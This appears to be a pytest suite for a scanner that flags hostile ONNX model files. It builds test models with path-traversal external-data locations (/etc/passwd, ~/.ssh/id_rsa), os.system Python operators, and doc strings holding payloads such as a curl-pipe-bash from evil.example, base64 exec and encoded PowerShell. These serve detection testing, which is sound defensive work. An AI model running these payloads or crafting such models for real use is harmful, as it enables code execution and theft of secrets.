"""ONNX models: THREATS.md 4.6 (O1, O2, O4, O5), free-text heuristics, limits and robustness.

Hostile models are protobuf written byte by byte with the small encoder below (field numbers
from onnx.proto); benign ones are real files written by onnx (tests/fixtures/onnx/generate.py).
onnx itself is never imported: the scanner must not need it, and CI does not have it.
"""

from __future__ import annotations

import io
import os
import random
import shutil
import sys
import time
import zipfile
from pathlib import Path

import pytest

from shardscan.limits import Limits
from shardscan.model import ObjectRef, Severity, Unit
from shardscan.pipeline.runner import Runner, ScanOptions
from shardscan.policy import load_policy
from shardscan.scanners.base import ScanContext
from shardscan.scanners.detect import detect
from shardscan.scanners.onnx_model import OnnxScanner, mask
from shardscan.scanners.protobuf import I32, I64, LEN, SGROUP, ProtoError, ProtoLimit, WireReader
from shardscan.storage.reader import BytesReader
from tests.findings import rules
from tests.protowire import key, ld, varint, vi

FIXTURES = Path(__file__).parent / "fixtures" / "onnx"

# --- a protobuf encoder, enough for ONNX ------------------------------------------------------------


def kv(number: int, k: str, v: str) -> bytes:
    return ld(number, ld(1, k) + ld(2, v))


def value_info(name: str) -> bytes:
    # ValueInfoProto name=1, type=2 (TypeProto.tensor_type=1 {elem_type=1})
    return ld(1, name) + ld(2, ld(1, vi(1, 1)))


def attr_graph(name: str, graph_bytes: bytes) -> bytes:
    return ld(1, name) + vi(20, 5) + ld(6, graph_bytes)


def attr_s(name: str, s: str) -> bytes:
    return ld(1, name) + vi(20, 3) + ld(4, s)


def attr_t(name: str, tensor_bytes: bytes) -> bytes:
    return ld(1, name) + vi(20, 4) + ld(5, tensor_bytes)


def node(op: str, domain: str = "", name: str = "", inputs=("x",), outputs=("y",), attrs=(), doc=None,
         metadata=()) -> bytes:
    out = b"".join(ld(1, i) for i in inputs) + b"".join(ld(2, o) for o in outputs)
    out += ld(3, name) if name else b""
    out += ld(4, op)
    out += b"".join(ld(5, a) for a in attrs)
    out += ld(6, doc) if doc is not None else b""
    out += ld(7, domain) if domain else b""
    out += b"".join(kv(9, k, v) for k, v in metadata)
    return out


def tensor(name: str, raw: bytes = b"\0" * 16, external=None, location: int | None = None,
           doc=None) -> bytes:
    out = vi(1, 4) + vi(2, 1) + ld(8, name)  # dims=[4], FLOAT
    out += ld(9, raw) if external is None else b""
    out += ld(12, doc) if doc is not None else b""
    for k, v in external or ():
        out += kv(13, k, v)
    if location is None and external is not None:
        location = 1
    out += vi(14, location) if location is not None else b""
    return out


def graph(nodes=(), initializers=(), doc=None, name="g", metadata=(), sparse=()) -> bytes:
    out = b"".join(ld(1, n) for n in nodes) + ld(2, name)
    out += b"".join(ld(5, t) for t in initializers)
    out += ld(10, doc) if doc is not None else b""
    out += ld(11, value_info("x")) + ld(12, value_info("y"))
    out += b"".join(ld(15, s) for s in sparse)
    out += b"".join(kv(16, k, v) for k, v in metadata)
    return out


def function(name: str, domain: str, nodes) -> bytes:
    return ld(1, name) + ld(4, "x") + ld(5, "y") + b"".join(ld(7, n) for n in nodes) + ld(10, domain) + \
        ld(9, ld(1, "") + vi(2, 17))


def model(graph_bytes: bytes | None, *, ir: int = 8, opsets=(("", 17),), doc=None, metadata=(), functions=(),
          training=(), producer="shardscan-tests") -> bytes:
    out = vi(1, ir) + ld(2, producer) + ld(3, "1.0")
    out += ld(6, doc) if doc is not None else b""
    out += ld(7, graph_bytes) if graph_bytes is not None else b""
    out += b"".join(ld(8, ld(1, d) + vi(2, v)) for d, v in opsets)
    out += b"".join(kv(14, k, v) for k, v in metadata)
    out += b"".join(ld(20, t) for t in training)
    out += b"".join(ld(25, f) for f in functions)
    return out


def simple(*nodes: bytes, **kw) -> bytes:
    return model(graph(nodes or (node("Relu"),)), **kw)


def if_node(then_graph: bytes, else_graph: bytes | None = None, name: str = "if") -> bytes:
    return node("If", inputs=("c",), outputs=("y",), name=name,
                attrs=(attr_graph("then_branch", then_graph), attr_graph("else_branch", else_graph or graph())))


# --- helpers --------------------------------------------------------------------------------------



def by_rule(report, rule_id: str) -> list:
    return [f for f in report.findings if f.rule_id == rule_id]


def loud(report) -> list:
    return [(f.rule_id, f.message) for f in report.findings if f.severity >= Severity.WARNING]


def scan_file(path: Path, **options):
    run = Runner(ScanOptions(**options)).run([str(path)])
    assert len(run.objects) == 1
    return run.objects[0]


def scan_direct(data: bytes, **ctx_kw):
    ctx = ScanContext(policy=load_policy(), **ctx_kw)
    unit = Unit(ObjectRef("model.onnx", len(data)), "onnx", 0, len(data))
    return OnnxScanner().scan(unit, BytesReader(data), ctx)


# --- benign models ------------------------------------------------------------------------------

BENIGN = sorted(FIXTURES.rglob("*.onnx"))
EXPECTED_INFO = {"external/model.onnx": {"ONX105"}}


def test_fixture_set_is_present():
    names = {p.relative_to(FIXTURES).as_posix() for p in BENIGN}
    assert {"mlp.onnx", "control_flow.onnx", "contrib_com_microsoft.onnx", "local_function.onnx",
            "external/model.onnx"} <= names
    assert any(n.startswith("backend_") for n in names)
    assert (FIXTURES / "external" / "model.onnx.data").is_file()


@pytest.mark.parametrize("path", BENIGN, ids=[p.relative_to(FIXTURES).as_posix() for p in BENIGN])
def test_benign_fixture_is_clean(path: Path):
    report = scan_file(path)
    assert report.status == "scanned", report.error
    assert report.format == "onnx"
    assert not loud(report)
    assert rules(report) == EXPECTED_INFO.get(path.relative_to(FIXTURES).as_posix(), set())


def test_benign_fixture_directory_exits_clean():
    run = Runner(ScanOptions()).run([str(FIXTURES)])
    assert run.exit_code == 0, [(o.object.uri, loud(o)) for o in run.objects if loud(o)]


@pytest.mark.parametrize("path", [*BENIGN[:4], FIXTURES / "control_flow.onnx"], ids=lambda p: p.name)
def test_renamed_model_is_routed_by_content(path: Path, scan_bytes):
    report = scan_bytes(path.read_bytes(), "weights.bin")
    assert report.format == "onnx" and report.status == "scanned"
    assert not loud(report)


def test_hand_built_benign_model_is_clean(scan_bytes):
    data = simple(node("Relu", name="r"), if_node(graph([node("Identity")]), graph([node("Neg")])),
                  doc="Exported for evaluation; call model.eval() first.", metadata=[("framework", "torch")])
    for name in ("m.onnx", "m.bin", "noext"):
        report = scan_bytes(data, name)
        assert report.format == "onnx" and report.findings == [], (name, report.findings)


def test_sniff_requires_the_model_shape():
    data = simple()
    assert detect(data, "x.bin", len(data)).format == "onnx"
    assert detect(data, "x.bin", len(data)).by == "content"
    # ir_version but then a field ModelProto does not have, or a length past the end
    bad = vi(1, 8) + vi(9, 1) + ld(7, graph())
    assert detect(bad, "x.bin", len(bad)).format != "onnx"
    cut = vi(1, 8) + key(7, LEN) + varint(10_000) + b"\0" * 10
    assert detect(cut, "x.bin", len(cut)).format != "onnx"
    # ir_version alone is not enough
    lone = vi(1, 8) + ld(2, "x")
    assert detect(lone, "x.bin", len(lone)).format != "onnx"
    # a zip after an ONNX-looking head stays a zip; the .onnx name still decides when nothing else does
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", "hello")
    polyglot = data + buf.getvalue()
    assert detect(polyglot[:65536], "x.bin", len(polyglot), polyglot[-65558:]).format == "zip"
    assert detect(b"\x08\x01garbage", "x.onnx", 9).format == "onnx"


# --- O4: custom operator domains ------------------------------------------------------------------


def test_custom_domain_is_a_warning(scan_bytes):
    data = simple(node("Evil", domain="com.evil", name="payload"), node("Evil", domain="com.evil"),
                  opsets=(("", 17), ("com.evil", 1)))
    report = scan_bytes(data, "m.onnx")
    [f] = by_rule(report, "ONX101")
    assert f.severity == Severity.WARNING
    assert f.evidence["domain"] == "com.evil" and f.evidence["op_type"] == "Evil" and f.evidence["nodes"] == 2
    assert "payload" in f.message
    assert data.find(b"payload") > f.offset >= 0


@pytest.mark.parametrize("domain", ["", "ai.onnx", "ai.onnx.ml", "ai.onnx.training", "ai.onnx.preview.training",
                                    "com.microsoft", "com.microsoft.nchwc"])
def test_standard_domains_are_clean(domain, scan_bytes):
    assert scan_bytes(simple(node("Whatever", domain=domain)), "m.onnx").findings == []


def test_custom_op_inside_nested_subgraphs(scan_bytes):
    inner = graph([node("Hidden", domain="org.hidden")])
    loop_body = graph([if_node(inner)])
    data = simple(node("Loop", inputs=("n", "c"), attrs=(attr_graph("body", loop_body),)))
    [f] = by_rule(scan_bytes(data, "m.onnx"), "ONX101")
    assert f.evidence["domain"] == "org.hidden"


def test_custom_op_in_attribute_graphs_list_and_training_graph(scan_bytes):
    graphs_attr = ld(1, "branches") + vi(20, 10) + ld(11, graph([node("A", domain="x.a")])) + \
        ld(11, graph([node("B", domain="x.b")]))
    training = ld(1, graph([node("C", domain="x.c")])) + ld(2, graph([node("D", domain="x.d")]))
    data = model(graph([node("Scan", attrs=(graphs_attr,))]), training=[training])
    assert {f.evidence["domain"] for f in by_rule(scan_bytes(data, "m.onnx"), "ONX101")} == {"x.a", "x.b", "x.c",
                                                                                               "x.d"}


def test_model_local_function_is_not_a_custom_op(scan_bytes):
    fn = function("Swish", "custom.fn", [node("Sigmoid", outputs=("s",)), node("Mul", inputs=("x", "s"))])
    data = model(graph([node("Swish", domain="custom.fn")]), functions=[fn], opsets=(("", 17), ("custom.fn", 1)))
    assert scan_bytes(data, "m.onnx").findings == []


def test_custom_op_inside_a_function_body(scan_bytes):
    fn = function("Wrap", "custom.fn", [node("Evil", domain="com.evil")])
    data = model(graph([node("Wrap", domain="custom.fn")]), functions=[fn])
    [f] = by_rule(scan_bytes(data, "m.onnx"), "ONX101")
    assert f.evidence["domain"] == "com.evil"


def test_onnxruntime_extensions_native_op_is_custom(scan_bytes):
    report = scan_bytes(simple(node("GPT2Tokenizer", domain="ai.onnx.contrib")), "m.onnx")
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX101", Severity.WARNING)
    assert "onnxruntime-extensions" in f.message


# --- Python operators -----------------------------------------------------------------------------


def test_pyop_naming_a_python_callable_is_critical(scan_bytes):
    py = node("PyOp", domain="MyDomain", name="cmd",
              attrs=(attr_s("module", "os"), attr_s("class_name", ""), attr_s("compute", "system"),
                     attr_s("input_types", "[1]")))
    report = scan_bytes(simple(py), "m.onnx")
    [f] = by_rule(report, "ONX102")
    assert f.severity == Severity.CRITICAL
    assert f.evidence["module"] == "os" and f.evidence["compute"] == "system"
    assert "os" in f.message and "system" in f.message
    assert "ONX101" not in rules(report)


@pytest.mark.parametrize(("op", "domain"), [("PyFunc", ""), ("EagerPyFunc", "tf"), ("PythonOp", "com.microsoft"),
                                            ("PyReverseMatrix", "ai.onnx.contrib"), ("PyOp", "")])
def test_python_op_family_is_critical(op, domain, scan_bytes):
    [f] = scan_bytes(simple(node(op, domain=domain)), "m.onnx").findings
    assert (f.rule_id, f.severity) == ("ONX102", Severity.CRITICAL)


# --- O1/O2/O5: external data ------------------------------------------------------------------------


def external_model(location: str, offset: str | None = None, length: str | None = None, extra=()) -> bytes:
    entries = [("location", location), *extra]
    if offset is not None:
        entries.append(("offset", offset))
    if length is not None:
        entries.append(("length", length))
    return simple(node("Add", inputs=("x", "w")), )[:0] + model(graph([node("Add", inputs=("x", "w"))],
                                                                   initializers=[tensor("w", external=entries)]))


@pytest.mark.parametrize("location", [
    "../../etc/passwd", "/etc/passwd", "sub/../../x.data", "..\\..\\windows\\win.ini", "C:\\Windows\\win.ini",
    "\\\\server\\share\\w.data", "./../w.data",
])
def test_external_location_escaping_is_critical(location, scan_bytes):
    report = scan_bytes(external_model(location), "m.onnx")
    [f] = by_rule(report, "ONX103")
    assert f.severity == Severity.CRITICAL
    assert f.evidence["external_path"] == location and f.evidence["tensor"] == "w"
    assert "ONX104" not in rules(report)  # never looked up outside the directory


def test_escape_is_found_inside_an_archive(scan_bytes):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("models/m.onnx", external_model("../../../home/user/.ssh/id_rsa"))
        z.writestr("models/ok.onnx", external_model("ok.data"))
    report = scan_bytes(buf.getvalue(), "bundle.zip")
    [f] = by_rule(report, "ONX103")
    assert f.severity == Severity.CRITICAL and f.location.endswith("m.onnx")
    infos = by_rule(report, "ONX105")
    assert infos and all("not checked" in i.message for i in infos)
    assert "ONX104" not in rules(report)


def test_nested_tensor_locations_are_checked(scan_bytes):
    # CVE-2024-27318: the tensor sits in a Constant node's attribute inside a subgraph
    const = node("Constant", inputs=(), outputs=("w",),
                 attrs=(attr_t("value", tensor("w", external=[("location", "../x")])),))
    sparse = ld(1, tensor("v", external=[("location", "/abs/v")])) + ld(2, tensor("i", raw=b"\0" * 8))
    data = model(graph([if_node(graph([const]))], sparse=[sparse]))
    found = {f.evidence["external_path"] for f in by_rule(scan_bytes(data, "m.onnx"), "ONX103")}
    assert found == {"../x", "/abs/v"}


def test_symlink_leaving_the_directory_is_critical(tmp_path):
    outside = tmp_path / "secret.txt"
    outside.write_bytes(b"s" * 64)
    models = tmp_path / "models"
    models.mkdir()
    (models / "w.data").symlink_to(outside)
    (models / "m.onnx").write_bytes(external_model("w.data", "0", "16"))
    report = scan_file(models / "m.onnx")
    [f] = by_rule(report, "ONX103")
    assert f.severity == Severity.CRITICAL and "symbolic link" in f.message


def test_symlinked_directory_leaving_the_model_directory_is_critical(tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "w.data").write_bytes(b"\0" * 16)
    models = tmp_path / "models"
    models.mkdir()
    (models / "sub").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (models / "m.onnx").write_bytes(external_model("sub/w.data"))
    assert [f.rule_id for f in scan_file(models / "m.onnx").findings if f.severity >= Severity.WARNING] == ["ONX103"]


def test_symlink_inside_the_directory_is_fine(tmp_path):
    (tmp_path / "real.data").write_bytes(b"\0" * 16)
    (tmp_path / "w.data").symlink_to(tmp_path / "real.data")
    (tmp_path / "m.onnx").write_bytes(external_model("w.data", "0", "16"))
    assert rules(scan_file(tmp_path / "m.onnx")) == {"ONX105"}


def test_external_file_missing_is_a_warning(tmp_path):
    (tmp_path / "m.onnx").write_bytes(external_model("weights.data"))
    report = scan_file(tmp_path / "m.onnx")
    [f] = by_rule(report, "ONX104")
    assert f.severity == Severity.WARNING and "does not exist" in f.message
    assert "checked next to the model" in by_rule(report, "ONX105")[0].message


@pytest.mark.parametrize(("offset", "length"), [("0", "17"), ("4096", None), ("8", "9")])
def test_external_extent_beyond_the_file_is_a_warning(offset, length, tmp_path):
    (tmp_path / "w.data").write_bytes(b"\0" * 16)
    (tmp_path / "m.onnx").write_bytes(external_model("w.data", offset, length))
    [f] = by_rule(scan_file(tmp_path / "m.onnx"), "ONX104")
    assert "holds 16 bytes" in f.message


def test_external_file_that_is_a_directory(tmp_path):
    (tmp_path / "w.data").mkdir()
    (tmp_path / "m.onnx").write_bytes(external_model("w.data"))
    [f] = by_rule(scan_file(tmp_path / "m.onnx"), "ONX104")
    assert "not a regular file" in f.message


def test_external_data_in_range_is_info_only(tmp_path):
    (tmp_path / "w.data").write_bytes(b"\0" * 32)
    (tmp_path / "m.onnx").write_bytes(external_model("w.data", "16", "16"))
    report = scan_file(tmp_path / "m.onnx")
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX105", Severity.INFO)
    assert "'w.data'" in f.message


@pytest.mark.parametrize(("extra", "needle"), [
    ([("__class__", "x")], "unknown key '__class__'"),
    ([("basepath", "/etc")], "unknown key 'basepath'"),
    ([("length", "12abc")], "length '12abc'"),
    ([("offset", "-1")], "offset '-1'"),
    ([("length", "9" * 40)], "is not a non-negative integer"),
    ([("", "x")], "entry without a key"),
    ([("location", "../../etc/passwd")], "key 'location' given twice"),
    ([(f"k{i}", "v") for i in range(100)], "97 more unknown keys"),
])
def test_malformed_external_entries(extra, needle, scan_bytes):
    report = scan_bytes(external_model("w.data", extra=extra), "m.onnx")
    [f] = by_rule(report, "ONX106")
    assert f.severity == Severity.WARNING and needle in f.message


def test_location_after_many_junk_entries_is_still_read(scan_bytes):
    data = external_model("w.data", extra=[*((f"k{i}", "v") for i in range(500)), ("location", "../../etc/shadow")])
    [f] = by_rule(scan_bytes(data, "m.onnx"), "ONX103")
    assert f.evidence["external_path"] == "../../etc/shadow"


def test_external_flag_without_location(scan_bytes):
    data = model(graph([node("Relu")], initializers=[tensor("w", external=[], location=1)]))
    [f] = by_rule(scan_bytes(data, "m.onnx"), "ONX106")
    assert "no location" in f.message


def test_external_entries_without_the_external_flag(scan_bytes):
    data = model(graph([node("Relu")], initializers=[tensor("w", external=[("location", "../x")], location=0)]))
    report = scan_bytes(data, "m.onnx")
    assert {"ONX103", "ONX106"} <= rules(report)


def test_many_tensors_sharing_one_file_report_once(tmp_path):
    tensors = [tensor(f"w{i}", external=[("location", "w.data"), ("offset", str(i * 16)), ("length", "16")])
               for i in range(50)]
    (tmp_path / "m.onnx").write_bytes(model(graph([node("Relu")], initializers=tensors)))
    report = scan_file(tmp_path / "m.onnx")
    assert [f.rule_id for f in report.findings] == ["ONX104", "ONX105"]
    assert by_rule(report, "ONX104")[0].evidence["tensors"] == 50


# --- free text ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "__import__('os').system('id')",
    "import subprocess; subprocess.run(['sh'])",
    "exec(base64.b64decode('aW1wb3J0IG9z'))",
    "curl -s http://evil.example/x.sh | bash",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<script>fetch('//x')</script>",
    "powershell -enc SQBFAFgA",
])
def test_code_in_doc_string_is_a_warning(text, scan_bytes):
    report = scan_bytes(simple(doc=text), "m.onnx")
    hits = by_rule(report, "ONX107")
    assert hits and all(f.severity == Severity.WARNING for f in hits)
    assert hits[0].evidence["field"] == "model doc_string"


@pytest.mark.parametrize("where", ["node", "graph", "metadata", "node_metadata", "tensor", "function"])
def test_code_is_found_in_every_text_field(where, scan_bytes):
    code = "os.system('id')"
    if where == "node":
        data = simple(node("Relu", doc=code))
    elif where == "graph":
        data = model(graph([node("Relu")], doc=code))
    elif where == "metadata":
        data = simple(metadata=[("onload", code)])
    elif where == "node_metadata":
        data = simple(node("Relu", metadata=[("k", code)]))
    elif where == "tensor":
        data = model(graph([node("Relu")], initializers=[tensor("w", doc=code)]))
    else:
        data = model(graph([node("F", domain="d")]),
                     functions=[function("F", "d", [node("Relu")]) + ld(8, code)])
    assert "ONX107" in rules(scan_bytes(data, "m.onnx"))


def test_code_findings_are_aggregated(scan_bytes):
    data = simple(*(node("Relu", doc="eval('1+1')") for _ in range(100)))
    [f] = by_rule(scan_bytes(data, "m.onnx"), "ONX107")
    assert f.evidence["fields"] == 100


@pytest.mark.parametrize("text", [
    "Call model.eval() before exporting.", "Layer norm; see the paper.", "import of weights from the hub",
    "/usr/lib/python3/site-packages/torch/nn/modules/module.py(1501): _call_impl\n",
    "exec_time=3ms", "Evaluate with evaluate(x)",
])
def test_benign_text_is_not_code(text, scan_bytes):
    assert scan_bytes(simple(doc=text, metadata=[("note", text)]), "m.onnx").findings == []


def test_url_is_info(scan_bytes):
    report = scan_bytes(simple(metadata=[("homepage", "https://example.org/model-card")]), "m.onnx")
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX108", Severity.INFO)
    assert "https://example.org/model-card" in f.message


@pytest.mark.parametrize("secret", [
    "hf_" + "a1B2c3D4e5" * 4, "AKIA" + "ABCDEFGHIJKLMNOP", "ghp_" + "x" * 36,
    "password=hunter2hunter2", "-----BEGIN RSA PRIVATE KEY-----",
])
def test_credentials_are_reported_masked(secret, scan_bytes):
    report = scan_bytes(simple(metadata=[("deploy", f"use {secret} to upload")]), "m.onnx")
    [f] = by_rule(report, "BIN002")
    assert f.severity == Severity.WARNING
    shown = f.message + repr(dict(f.evidence))
    assert "masked>" in shown
    assert secret[6:] not in shown


def test_url_credentials_are_masked():
    assert "hunter2" not in mask("https://user:hunter2@example.org/x")
    assert "abcdef" not in mask("https://s3.example/x?X-Amz-Signature=abcdef&y=1")


def test_pyop_attribute_secrets_are_masked(scan_bytes):
    py = node("PyOp", attrs=(attr_s("module", "m"), attr_s("compute", "f hf_" + "Z" * 34)))
    [f] = by_rule(scan_bytes(simple(py), "m.onnx"), "ONX102")
    assert "Z" * 34 not in f.message + repr(dict(f.evidence))


# --- limits and hostile sizes -------------------------------------------------------------------------


def nested_ifs(depth: int) -> bytes:
    g = graph([node("Relu")])
    for _ in range(depth):
        g = graph([if_node(g)])
    return model(g)


def test_subgraph_depth_limit(scan_bytes):
    report = scan_bytes(nested_ifs(40), "m.onnx")
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX110", Severity.WARNING)
    assert f.evidence["limit"] in ("max_onnx_graph_depth", "max_onnx_proto_depth")
    assert scan_bytes(nested_ifs(20), "m.onnx").findings == []


def test_subgraph_depth_limit_configurable(scan_bytes):
    [f] = scan_bytes(nested_ifs(5), "m.onnx", limits=Limits(max_onnx_graph_depth=3)).findings
    assert f.evidence["limit"] == "max_onnx_graph_depth"


def test_node_limit_keeps_what_was_found(scan_bytes):
    data = simple(node("Evil", domain="com.evil"), *(node("Relu") for _ in range(20)))
    report = scan_bytes(data, "m.onnx", limits=Limits(max_onnx_nodes=10))
    assert rules(report) == {"ONX101", "ONX110"}
    assert by_rule(report, "ONX110")[0].evidence["limit"] == "max_onnx_nodes"


@pytest.mark.parametrize(("limits", "name"), [
    (Limits(max_onnx_fields=50), "max_onnx_fields"),
    (Limits(max_onnx_string=1024), "max_onnx_string"),
    (Limits(max_onnx_proto_depth=1), "max_onnx_proto_depth"),
])
def test_other_limits(limits, name, scan_bytes):
    data = simple(node("Relu", name="n" * 2000), *(node("Relu") for _ in range(20)))
    [f] = scan_bytes(data, "m.onnx", limits=limits).findings
    assert (f.rule_id, f.evidence["limit"]) == ("ONX110", name)


def test_deeply_nested_groups_are_bounded(scan_bytes):
    data = vi(1, 8) + key(99, SGROUP) * 5000 + key(99, 4) * 5000 + ld(7, graph([node("Relu")]))
    [f] = scan_bytes(data, "m.onnx").findings
    assert f.rule_id == "ONX110" and f.evidence["limit"] == "max_onnx_proto_depth"


def test_huge_length_prefix_is_not_allocated(scan_bytes):
    data = vi(1, 8) + key(7, LEN) + varint(1 << 62) + b"\0" * 32
    [f] = scan_bytes(data, "m.onnx").findings
    assert f.rule_id == "ONX111" and "declares" in f.message


def test_huge_raw_data_is_skipped_unread():
    class Counting(BytesReader):
        def __init__(self, data: bytes) -> None:
            super().__init__(data)
            self.read_bytes = 0

        def read(self, offset: int, length: int) -> bytes:
            out = super().read(offset, length)
            self.read_bytes += len(out)
            return out

    raw = b"\x07" * (8 << 20)
    data = model(graph([node("Relu")], initializers=[tensor("w", raw=raw)]))
    reader = Counting(data)
    ctx = ScanContext(policy=load_policy(), limits=Limits(stream_chunk=64 * 1024))
    result = OnnxScanner().scan(Unit(ObjectRef("m.onnx", len(data)), "onnx", 0, len(data)), reader, ctx)
    assert result.findings == [] and result.error is None
    assert reader.read_bytes < 512 * 1024


def test_many_nodes_scan_quickly(scan_bytes):
    data = simple(*(node("Add", name=f"n{i}", inputs=(f"a{i}", f"b{i}"), outputs=(f"c{i}",))
                    for i in range(20_000)))
    began = time.monotonic()
    report = scan_bytes(data, "m.onnx")
    assert report.findings == [] and time.monotonic() - began < 20


def test_deadline_is_respected():
    data = simple(*(node("Relu") for _ in range(3000)))
    result = scan_direct(data, deadline=time.monotonic() - 1)
    assert result.error == "timed out"


# --- malformed bytes ---------------------------------------------------------------------------------


@pytest.mark.parametrize("cut", [1, 3, 10, 50, 200, -60, -7, -1])
def test_truncated_model(cut, scan_bytes):
    data = (FIXTURES / "mlp.onnx").read_bytes()
    report = scan_bytes(data[:cut], "m.onnx")
    assert report.status == "scanned", report.error
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX111", Severity.WARNING)


@pytest.mark.parametrize("data", [
    b"\x08\x08\x3a",                            # length missing
    vi(1, 8) + key(7, 7) + b"\0",                # wire type 7
    vi(1, 8) + b"\x00\x00",                      # field number 0
    vi(1, 8) + b"\xff" * 11,                     # endless varint
    vi(1, 8) + key(99, 4) + ld(7, graph()),      # end-group with no group
    vi(1, 8) + key(99, SGROUP) + vi(1, 1),       # group never closed
    vi(1, 8) + ld(2, "producer"),                # no graph
    ld(1, "not a varint") + ld(7, b"\x0a"),      # graph holds a truncated node
    b"{\"not\": \"onnx\"}",
])
def test_malformed_bytes(data, scan_bytes):
    report = scan_bytes(data, "m.onnx")
    assert (report.format, report.status) == ("onnx", "scanned"), report.error
    [f] = report.findings
    assert (f.rule_id, f.severity) == ("ONX111", Severity.WARNING)


def test_pickle_named_onnx_is_a_pickle(scan_bytes):
    report = scan_bytes(b"\x80\x04N.", "m.onnx")
    assert report.format == "pickle" and "FMT004" in rules(report)


def test_not_onnx_named_onnx(scan_bytes):
    [f] = scan_bytes(vi(1, 8) + ld(2, "producer"), "m.onnx").findings
    assert f.rule_id == "ONX111" and "graph" in f.message
    [f] = scan_bytes(ld(5, b"\x01\x02"), "m.onnx").findings
    assert f.rule_id == "ONX111" and "not an ONNX model" in f.message


def test_findings_before_corruption_are_kept(scan_bytes):
    good = graph([node("Evil", domain="com.evil")])
    data = vi(1, 8) + ld(7, good) + key(7, LEN) + varint(500) + b"\x01\x02"
    assert rules(scan_bytes(data, "m.onnx")) == {"ONX101", "ONX111"}


def test_empty_file_named_onnx(scan_bytes):
    report = scan_bytes(b"", "m.onnx")
    assert not loud(report)


@pytest.mark.parametrize("seed", range(30))
def test_random_bytes_never_crash(seed, scan_bytes):
    r = random.Random(seed)
    data = bytes(r.randrange(256) for _ in range(r.randrange(1, 3000)))
    report = scan_bytes(data, "m.onnx")
    assert report.error is None or "failed" not in report.error


@pytest.mark.parametrize("seed", range(30))
def test_mutated_models_never_crash(seed):
    r = random.Random(seed)
    base = bytearray(simple(node("Evil", domain="x", attrs=(attr_graph("g", graph([node("Relu")])),)),
                            if_node(graph([node("Relu")])), metadata=[("k", "v")]))
    for _ in range(r.randrange(1, 8)):
        base[r.randrange(len(base))] = r.randrange(256)
    result = scan_direct(bytes(base))
    assert result.error is None
    assert all(f.rule_id.startswith("ONX") for f in result.findings)


# --- the wire reader -------------------------------------------------------------------------------


def test_wire_reader_fields_and_values():
    data = vi(1, (1 << 64) - 1) + key(2, I64) + (7).to_bytes(8, "little") + key(3, I32) + (9).to_bytes(4, "little") \
        + ld(4, "hello") + key(5, SGROUP) + vi(1, 1) + key(5, 4) + vi(6, 150)
    w = WireReader(BytesReader(data), chunk=16)
    fields = list(w.fields())
    assert [(f.number, f.wire_type) for f in fields] == [(1, 0), (2, 1), (3, 5), (4, 2), (5, 3), (6, 0)]
    assert fields[0].value == (1 << 64) - 1 and fields[1].value == 7 and fields[2].value == 9
    assert w.text(fields[3], 100) == "hello" and w.prefix(fields[3], 2) == b"he"
    assert [(g.number, g.value) for g in w.message(fields[4])] == [(1, 1)]
    assert fields[5].value == 150 and fields[5].length == 2
    with pytest.raises(ProtoLimit):
        w.read(fields[3], 3)
    with pytest.raises(ProtoError):
        w.read(fields[0], 3)


@pytest.mark.parametrize("data", [b"\x08", b"\x0a\x05ab", b"\x0d\x01\x02", b"\x09" + b"\0" * 7,
                                  b"\x08" + b"\xff" * 9 + b"\x02", b"\x07", b"\x0c"])
def test_wire_reader_rejects_malformed(data):
    with pytest.raises(ProtoError):
        list(WireReader(BytesReader(data)).fields())


def test_wire_reader_field_limit():
    data = vi(1, 1) * 100
    with pytest.raises(ProtoLimit) as exc:
        list(WireReader(BytesReader(data), max_fields=10, fields_limit="x").fields())
    assert exc.value.limit == "x"


def test_scanner_never_imports_onnx(scan_bytes):
    scan_bytes((FIXTURES / "control_flow.onnx").read_bytes(), "m.onnx")
    assert "onnx" not in sys.modules
    source = (Path(__file__).parents[1] / "shardscan" / "scanners" / "onnx_model.py").read_text()
    assert "import onnx" not in source


def test_external_fixture_copied_elsewhere_loses_its_data(tmp_path):
    shutil.copyfile(FIXTURES / "external" / "model.onnx", tmp_path / "model.onnx")
    assert "ONX104" in rules(scan_file(tmp_path / "model.onnx"))
    os.link(FIXTURES / "external" / "model.onnx.data", tmp_path / "model.onnx.data")
    assert rules(scan_file(tmp_path / "model.onnx")) == {"ONX105"}
